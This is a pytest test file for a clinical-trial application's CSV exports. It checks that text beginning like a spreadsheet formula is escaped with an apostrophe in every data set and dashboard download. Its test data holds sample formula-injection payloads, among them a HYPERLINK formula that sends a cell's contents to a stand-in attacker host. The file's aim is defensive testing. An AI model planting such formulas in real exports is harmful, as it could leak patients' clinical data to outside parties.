"""Spreadsheet formula injection (OWASP CSV injection): every CSV download defuses text that would run.

A text cell starting with =, +, -, @, a tab or a carriage return is written with a leading `'`; numbers
(decided by the column's declared type) and JSON keep what was entered. Covered: the pure rule, each
export data set (the Python encoder and PostgreSQL's COPY encoder of lab-results), the data dictionary's
note, and each of the dashboard's table downloads.
"""

import copy
import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.utils import timezone
from rest_framework.test import APIRequestFactory, force_authenticate

from analysis import export_api, exports, services
from analysis.dashboard_tables import TABLES, dashboard_context
from analysis.export_api import DataDictionaryApi, ExportApi
from core.audit import audited
from core.csv_safety import FORMULA_PREFIXES, csv_cells, csv_rows, csv_text, text_columns
from core.models import Arm
from labs.models import LabResult
from labs.services import lab_draw_record
from outcomes.models import AdverseEvent, QuestionnaireResponse
from outcomes.services import adverse_event_record, questionnaire_record
from tests.factories import adverse_event_form, randomized_patient

HOSTILE = ["=1+1", "@SUM(A1)", "+1", "-1", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1,"Click")']
factory = APIRequestFactory()


# --- the rule (pure) --------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_like_a_formula_gets_a_leading_apostrophe(value):
    assert csv_text(value) == "'" + value


@pytest.mark.parametrize("value", ["", "bruise", "1+1", "a=b", "'=1+1", " =1", "β-hCG", "<0.5", "\n=1"])
def test_other_text_is_written_as_it_is(value):
    assert csv_text(value) == value


@pytest.mark.parametrize("value", [-0.5, -1, Decimal("-0.5"), 0, None, True])
def test_numbers_and_missing_values_are_never_touched(value):
    assert csv_text(value) is value


def test_only_the_columns_declared_text_are_defused():
    types = ["string", "number", "integer", "string"]
    rows = [["-x", "-0.5", -1, "@y"], ["ok", -0.5, "=z", None]]
    assert text_columns(types) == (0, 3)
    assert list(csv_rows(copy.deepcopy(rows), text_columns(types))) == [
        ["'-x", "-0.5", -1, "'@y"],
        ["ok", -0.5, "=z", None],
    ]
    assert csv_cells([["-x", -0.5, "label"]]) == [["'-x", -0.5, "label"]]


# --- exports ----------------------------------------------------------------------------------------


def _export(user, dataset: str, fmt: str):
    request = factory.get(f"/api/v1/export/{dataset}.{fmt}")
    force_authenticate(request, user=user)
    response = ExportApi.as_view()(request, dataset=dataset, fmt=fmt)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def _csv(user, dataset: str) -> list[dict]:
    header, *lines = list(csv.reader(io.StringIO(_export(user, dataset, "csv"), newline="")))
    return [dict(zip(header, line, strict=True)) for line in lines]


def _json(user, dataset: str) -> list[dict]:
    return json.loads(_export(user, dataset, "json"))


@pytest.fixture
def hostile_events(site_a, staff_site_a, statistician):
    """One patient with an adverse event per hostile `term_other`, stored exactly (the form strips spaces)."""
    patient = randomized_patient(site_a, staff_site_a, statistician)
    for value in HOSTILE:
        event = adverse_event_record(
            patient=patient, data=adverse_event_form(term="other", term_other="placeholder"), by=staff_site_a
        )
        with audited(by=staff_site_a, reason="test: a description a spreadsheet would run"):
            AdverseEvent.objects.filter(pk=event.pk).update(term_other=value)
    return patient


@pytest.mark.django_db
def test_adverse_event_csv_writes_each_hostile_description_with_a_leading_apostrophe(hostile_events, statistician):
    written = sorted(row["term_other"] for row in _csv(statistician, "adverse-events"))
    assert written == sorted("'" + value for value in HOSTILE)
    assert "'=1+1" in written


@pytest.mark.django_db
def test_adverse_event_json_keeps_each_description_as_entered(hostile_events, statistician):
    assert sorted(row["term_other"] for row in _json(statistician, "adverse-events")) == sorted(HOSTILE)


@pytest.fixture
def hostile_labs(site_a, staff_site_a, statistician):
    """Lab results with text a spreadsheet would run, and a negative canonical value (stored past validation)."""
    patient = randomized_patient(site_a, staff_site_a, statistician)
    entries = [("FSH", "6", "IU/L"), ("LH", "4", "IU/L"), ("E2", "50", "pg/mL")]
    draw = lab_draw_record(
        patient=patient,
        timepoint="BASELINE",
        drawn_at=timezone.now() - timedelta(hours=1),
        entries=entries,
        by=staff_site_a,
    )
    with audited(by=staff_site_a, reason="test: values no lab would print"):
        results = LabResult.objects.filter(draw=draw)
        results.filter(analyte__code="FSH").update(value_as_entered="=1+1", unit_as_entered="@SUM(A1)")
        results.filter(analyte__code="LH").update(value_as_entered="\r=1", unit_as_entered="-1")
        results.filter(analyte__code="E2").update(canonical_value=Decimal("-0.5"))
    return patient


@pytest.mark.django_db
def test_lab_results_csv_from_copy_defuses_text_and_leaves_a_negative_number(hostile_labs, statistician):
    assert exports.copy_statement("lab-results", "csv", user=statistician) is not None  # the COPY path
    rows = {row["analyte"]: row for row in _csv(statistician, "lab-results")}
    assert (rows["FSH"]["value_as_entered"], rows["FSH"]["unit_as_entered"]) == ("'=1+1", "'@SUM(A1)")
    assert (rows["LH"]["value_as_entered"], rows["LH"]["unit_as_entered"]) == ("'\r=1", "'-1")
    assert rows["E2"]["canonical_value"] == "-0.5"


@pytest.mark.django_db
def test_lab_results_json_keeps_what_was_entered(hostile_labs, statistician):
    rows = {row["analyte"]: row for row in _json(statistician, "lab-results")}
    assert (rows["FSH"]["value_as_entered"], rows["LH"]["value_as_entered"]) == ("=1+1", "\r=1")
    assert rows["E2"]["canonical_value"] == -0.5


@pytest.mark.django_db
def test_copy_and_python_encoders_defuse_the_same_cells_byte_for_byte(hostile_labs, statistician):
    columns = exports.columns("lab-results")
    names = [column.name for column in columns]
    python = "".join(
        export_api.csv_stream(names, exports.csv_rows_of("lab-results", user=statistician, columns=columns))
    )
    statement = exports.copy_statement("lab-results", "csv", user=statistician, columns=columns)
    progress = export_api.Progress()
    assert b"".join(export_api.csv_copy_stream(names, statement, progress)) == python.encode()
    assert "'=1+1" in python


@pytest.mark.django_db
def test_a_negative_score_in_a_numeric_column_is_untouched(site_a, staff_site_a, statistician):
    patient = randomized_patient(site_a, staff_site_a, statistician)
    answers = {"1": 2, "2": 3, "3": 2, "4": 3, "5a": 4, "5b": 3, "5c": 1, "5d": 2, "5e": 1, "6": 2, "7": 3}
    answers |= {"8": 2, "9": 3, "10": 1}
    response = questionnaire_record(
        patient=patient,
        instrument="SSRS",
        timepoint="BASELINE",
        completed_on=timezone.localdate(),
        answers=answers,
        by=staff_site_a,
    )
    with audited(by=staff_site_a, reason="test: a negative score"):
        QuestionnaireResponse.objects.filter(pk=response.pk).update(scores={**response.scores, "total": -0.5})
    (row,) = _csv(statistician, "questionnaires")
    assert row["ssrs_total"] == "-0.5"


TEXT_PLANTS = {
    "patients": "arm",
    "lab-results": "arm",
    "adverse-events": "term_other",
    "questionnaires": "arm",
}


@pytest.fixture
def hostile_everywhere(hostile_events, hostile_labs, site_a, staff_site_a, statistician):
    """Hostile text in every data set; the arm codes too (configuration a careless admin could type)."""
    answers = {str(k): 3 for k in range(3, 13)}
    questionnaire_record(
        patient=hostile_events,
        instrument="RAND36",
        timepoint="BASELINE",
        completed_on=timezone.localdate(),
        answers=answers,
        by=staff_site_a,
    )
    with audited(by=staff_site_a, reason="test: arm codes a spreadsheet would run"):
        Arm.objects.update(code=Concat(Value("-"), F("code")))


@pytest.mark.django_db
@pytest.mark.parametrize("dataset", exports.DATASETS)
def test_no_text_cell_of_any_export_starts_like_a_formula(hostile_everywhere, statistician, dataset):
    fresh = get_user_model().objects.get(pk=statistician.pk)
    text = {column.name for column in exports.columns(dataset) if column.type == "string"}
    rows = _csv(fresh, dataset)
    assert rows
    for row in rows:
        assert not [value for name, value in row.items() if name in text and value.startswith(FORMULA_PREFIXES)]
    assert any(row[TEXT_PLANTS[dataset]].startswith("'-") or row[TEXT_PLANTS[dataset]].startswith("'=") for row in rows)


@pytest.mark.django_db
def test_the_data_dictionary_says_how_csv_writes_formula_like_text(statistician):
    request = factory.get("/api/v1/data-dictionary/")
    force_authenticate(request, user=statistician)
    data = DataDictionaryApi.as_view()(request).data
    assert set(exports.DATASETS) == set(data["datasets"])  # the existing keys stay
    note = data["csv_formula_escape"]
    assert note["prefixes"] == ["=", "+", "-", "@", "\t", "\r"] and note["escape"] == "'"
    assert note["column_type"] == "string" and "JSON" in note["note"]


# --- dashboard tables -------------------------------------------------------------------------------

# Where each table's text comes from in a snapshot's payload (values), or its keys (CONSORT boxes).
PAYLOAD_TEXT = {"label", "test", "term", "month", "site", "site__code"}


def _planted(node):
    """The payload with `=` before every displayed text value and every CONSORT box name."""
    if isinstance(node, list):
        return [_planted(item) for item in node]
    if not isinstance(node, dict):
        return node
    planted = {}
    for key, value in node.items():
        if key in PAYLOAD_TEXT and isinstance(value, str):
            planted[key] = "=" + value
        elif key == "counts" and isinstance(value, dict):
            planted[key] = {"=" + box: count for box, count in value.items()}
        else:
            planted[key] = _planted(value)
    return planted


@pytest.mark.django_db
@pytest.mark.parametrize("table", list(TABLES))
def test_each_dashboard_table_download_defuses_its_text_and_keeps_its_numbers(
    table, site_a, staff_site_a, statistician
):
    patient = randomized_patient(site_a, staff_site_a, statistician)
    adverse_event_record(patient=patient, data=adverse_event_form(), by=staff_site_a)
    job, _ = services.statistics_request()
    snapshot = services.statistics_compute(job_id=job.pk)
    snapshot.payload = _planted(snapshot.payload)
    context = dashboard_context(snapshot, population="itt", by_arm=True, stale=False)
    header, rows = TABLES[table](context)
    cells = [cell for row in [header, *rows] for cell in row]
    assert not [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)]
    assert any(isinstance(cell, str) and cell.startswith("'=") for cell in cells), table
    assert any(isinstance(cell, int | float) and not isinstance(cell, bool) for cell in cells) or table == "safety"
